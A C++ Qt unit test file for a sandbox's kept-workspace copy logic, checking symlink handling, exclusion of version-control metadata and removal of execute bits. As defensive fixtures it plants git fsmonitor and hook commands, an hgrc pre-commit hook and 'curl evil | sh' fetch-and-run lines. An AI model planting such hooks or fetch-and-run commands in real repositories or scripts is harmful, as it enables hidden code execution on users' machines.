// KeptWorkspace on its own: what comes back, what is removed, and what is never touched.
#include "files/keptworkspace.h"
#include "support/testfiles.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>

using namespace Sandpit::Core;
using SandpitTest::readFile;
using SandpitTest::writeFile;

namespace {
mode_t modeOf(const QString &path)
{
    struct stat st { };
    return ::lstat(QFile::encodeName(path).constData(), &st) == 0 ? st.st_mode & 07777 : 0;
}

bool setMode(const QString &path, mode_t mode)
{
    return ::chmod(QFile::encodeName(path).constData(), mode) == 0;
}

bool writeWithMode(const QString &path, const QByteArray &content, mode_t mode)
{
    return writeFile(path, content) && setMode(path, mode);
}

const QByteArray kConfig = "[core]\n\trepositoryformatversion = 0\n";

// A kept folder and a run's /work beside it.
struct Folders {
    QTemporaryDir dir;
    QString kept = dir.filePath(QStringLiteral("kept"));
    QString run = dir.filePath(QStringLiteral("run"));

    bool copyIn() const { return QDir().mkpath(run) && KeptWorkspace::copyIn(kept, run).has_value(); }
};
} // namespace

class TestKeptWorkspace : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void copyBackMirrorsTheRunButLeavesSymlinksAlone()
    {
        QTemporaryDir dir;
        const QString run = dir.filePath(QStringLiteral("run"));
        const QString kept = dir.filePath(QStringLiteral("kept"));
        writeFile(run + QStringLiteral("/counter.txt"), "2\n");
        writeFile(run + QStringLiteral("/sub/new.txt"), "new\n");
        writeFile(run + QStringLiteral("/.sandpit-run/token"), "secret\n");
        writeFile(run + QStringLiteral("/.sandpit/main"), "what the compiler built\n");
        writeFile(kept + QStringLiteral("/counter.txt"), "1\n");
        writeFile(kept + QStringLiteral("/gone.txt"), "removed by the program\n");
        writeFile(kept + QStringLiteral("/olddir/x.txt"), "x\n");
        writeFile(dir.filePath(QStringLiteral("outside.txt")), "never touched\n");
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("outside.txt")), kept + QStringLiteral("/link.txt")));

        QVERIFY(KeptWorkspace::copyBack(run, kept, {QStringLiteral(".sandpit-run")}));
        QCOMPARE(readFile(kept + QStringLiteral("/counter.txt")), QByteArray("2\n"));
        QCOMPARE(readFile(kept + QStringLiteral("/sub/new.txt")), QByteArray("new\n"));
        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/gone.txt")));
        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/olddir")));
        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/.sandpit-run")));
        QVERIFY(!QFileInfo::exists(kept + QStringLiteral("/.sandpit")));
        QVERIFY(QFileInfo(kept + QStringLiteral("/link.txt")).isSymLink());
        QCOMPARE(readFile(dir.filePath(QStringLiteral("outside.txt"))), QByteArray("never touched\n"));
    }

    void copyInNeverFollowsASymlink()
    {
        QTemporaryDir dir;
        const QString kept = dir.filePath(QStringLiteral("kept"));
        const QString work = dir.filePath(QStringLiteral("work"));
        writeFile(kept + QStringLiteral("/a.txt"), "a\n");
        writeFile(dir.filePath(QStringLiteral("secret.txt")), "secret\n");
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secret.txt")), kept + QStringLiteral("/secret.txt")));
        QVERIFY(QDir().mkpath(work));
        QVERIFY(KeptWorkspace::copyIn(kept, work));
        QCOMPARE(readFile(work + QStringLiteral("/a.txt")), QByteArray("a\n"));
        QVERIFY(!QFileInfo::exists(work + QStringLiteral("/secret.txt")));
    }

    void versionControlMetadataNeitherGoesInNorComesBack()
    {
        const Folders f;
        // A git checkout, with a git worktree (.git as a file), Mercurial and Subversion below.
        writeFile(f.kept + QStringLiteral("/main.py"), "print(1)\n");
        writeFile(f.kept + QStringLiteral("/.git/config"), kConfig);
        writeFile(f.kept + QStringLiteral("/.git/HEAD"), "ref: refs/heads/main\n");
        writeFile(f.kept + QStringLiteral("/tree/.git"), "gitdir: ../.git/worktrees/tree\n");
        writeFile(f.kept + QStringLiteral("/lib/.hg/hgrc"), "[ui]\n");
        writeFile(f.kept + QStringLiteral("/lib/.SVN/entries"), "12\n");
        QVERIFY(f.copyIn());
        QCOMPARE(readFile(f.run + QStringLiteral("/main.py")), QByteArray("print(1)\n"));
        for (const char *name : {"/.git", "/tree/.git", "/lib/.hg", "/lib/.SVN"})
            QVERIFY2(!QFileInfo::exists(f.run + QLatin1String(name)), name);

        // What the program planted: commands for git to run, in the places it looks.
        writeFile(f.run + QStringLiteral("/.git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
        writeFile(f.run + QStringLiteral("/.git/hooks/post-checkout"), "#!/bin/sh\ntouch /tmp/pwned\n");
        writeFile(f.run + QStringLiteral("/tree/.git"), "gitdir: /tmp/evil\n");
        writeFile(f.run + QStringLiteral("/lib/.hg/hgrc"), "[hooks]\npre-commit = touch /tmp/pwned\n");
        writeFile(f.run + QStringLiteral("/new/.Git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
        QVERIFY(KeptWorkspace::copyBack(f.run, f.kept));
        QCOMPARE(readFile(f.kept + QStringLiteral("/.git/config")), kConfig);
        QVERIFY(!QFileInfo::exists(f.kept + QStringLiteral("/.git/hooks")));
        QCOMPARE(readFile(f.kept + QStringLiteral("/.git/HEAD")), QByteArray("ref: refs/heads/main\n"));
        QCOMPARE(readFile(f.kept + QStringLiteral("/tree/.git")), QByteArray("gitdir: ../.git/worktrees/tree\n"));
        QCOMPARE(readFile(f.kept + QStringLiteral("/lib/.hg/hgrc")), QByteArray("[ui]\n"));
        QCOMPARE(readFile(f.kept + QStringLiteral("/lib/.SVN/entries")), QByteArray("12\n"));
        QVERIFY(QFileInfo(f.kept + QStringLiteral("/new")).isDir());
        QVERIFY(!QFileInfo::exists(f.kept + QStringLiteral("/new/.Git")));
    }

    void writtenBackFilesGainNoExecuteBit()
    {
        const Folders f;
        QVERIFY(writeWithMode(f.kept + QStringLiteral("/notes.sh"), "echo notes\n", 0644));
        QVERIFY(writeWithMode(f.kept + QStringLiteral("/build.sh"), "make\n", 0750));
        QVERIFY(writeWithMode(f.kept + QStringLiteral("/secret.txt"), "s\n", 0600));
        QVERIFY(f.copyIn());
        // Coming in, a file keeps its mode: the learner's own script still runs.
        QCOMPARE(modeOf(f.run + QStringLiteral("/build.sh")), mode_t(0750));

        // The program makes a file executable, changes another, and makes a new one executable.
        QVERIFY(writeWithMode(f.run + QStringLiteral("/notes.sh"), "curl evil | sh\n", 0777));
        QVERIFY(writeFile(f.run + QStringLiteral("/build.sh"), "make all\n"));
        QVERIFY(writeWithMode(f.run + QStringLiteral("/secret.txt"), "t\n", 0666));
        QVERIFY(writeWithMode(f.run + QStringLiteral("/bin/ls"), "#!/bin/sh\ncurl evil | sh\n", 0755));
        QVERIFY(KeptWorkspace::copyBack(f.run, f.kept));
        QCOMPARE(readFile(f.kept + QStringLiteral("/notes.sh")), QByteArray("curl evil | sh\n"));
        QCOMPARE(modeOf(f.kept + QStringLiteral("/notes.sh")), mode_t(0644));
        QCOMPARE(readFile(f.kept + QStringLiteral("/build.sh")), QByteArray("make all\n"));
        QCOMPARE(modeOf(f.kept + QStringLiteral("/build.sh")), mode_t(0750));
        QCOMPARE(modeOf(f.kept + QStringLiteral("/secret.txt")), mode_t(0600));
        QCOMPARE(readFile(f.kept + QStringLiteral("/bin/ls")), QByteArray("#!/bin/sh\ncurl evil | sh\n"));
        QCOMPARE(modeOf(f.kept + QStringLiteral("/bin/ls")) & 0111, mode_t(0));
    }

    void aBigHistoryDoesNotCountAgainstTheWorkspace()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("main.py")), "print(1)\n");
        QVERIFY(QDir().mkpath(dir.filePath(QStringLiteral(".git/objects/pack"))));
        QFile pack(dir.filePath(QStringLiteral(".git/objects/pack/pack-1.pack")));
        QVERIFY(pack.open(QIODevice::WriteOnly));
        QVERIFY(pack.resize(KeptWorkspace::kMaxBytes + 1)); // sparse: costs no disk
        pack.close();
        const auto prepared = KeptWorkspace::prepare(dir.path());
        QVERIFY2(prepared, prepared ? "" : qPrintable(prepared.error().message));
    }

    void aMissingRunFolderRemovesNothing()
    {
        QTemporaryDir dir;
        const QString kept = dir.filePath(QStringLiteral("kept"));
        writeFile(kept + QStringLiteral("/keep.txt"), "k\n");
        QVERIFY(!KeptWorkspace::copyBack(dir.filePath(QStringLiteral("no-such-run")), kept));
        QVERIFY(QFileInfo::exists(kept + QStringLiteral("/keep.txt")));
    }

    void prepareMakesTheFolderAndRefusesAFile()
    {
        QTemporaryDir dir;
        QVERIFY(KeptWorkspace::prepare(dir.filePath(QStringLiteral("new/ws"))));
        QVERIFY(QFileInfo(dir.filePath(QStringLiteral("new/ws"))).isDir());
        writeFile(dir.filePath(QStringLiteral("file")), "x");
        const auto refused = KeptWorkspace::prepare(dir.filePath(QStringLiteral("file")));
        QVERIFY(!refused);
        QVERIFY(refused.error().message.contains(QStringLiteral("not a folder")));
    }

    void prepareRefusesMoreThanAWorkspaceHolds()
    {
        QTemporaryDir dir;
        QFile big(dir.filePath(QStringLiteral("big.bin")));
        QVERIFY(big.open(QIODevice::WriteOnly));
        QVERIFY(big.resize(KeptWorkspace::kMaxBytes + 1)); // sparse: costs no disk
        big.close();
        const auto refused = KeptWorkspace::prepare(dir.path());
        QVERIFY(!refused);
        QVERIFY(refused.error().message.contains(QStringLiteral("64 MB")));
    }

    void resetEmptiesTheFolderButForItsHistory()
    {
        QTemporaryDir dir;
        writeFile(dir.filePath(QStringLiteral("a/b.txt")), "b");
        writeFile(dir.filePath(QStringLiteral(".hidden")), "h");
        writeFile(dir.filePath(QStringLiteral(".git/config")), kConfig);
        QVERIFY(KeptWorkspace::reset(dir.path()));
        // A checkout's history is not the run's: it stays.
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
                 QStringList{QStringLiteral(".git")});
        QCOMPARE(readFile(dir.filePath(QStringLiteral(".git/config"))), kConfig);
        QVERIFY(QFileInfo(dir.path()).isDir());
    }
};

QTEST_GUILESS_MAIN(TestKeptWorkspace)
#include "tst_keptworkspace.moc"
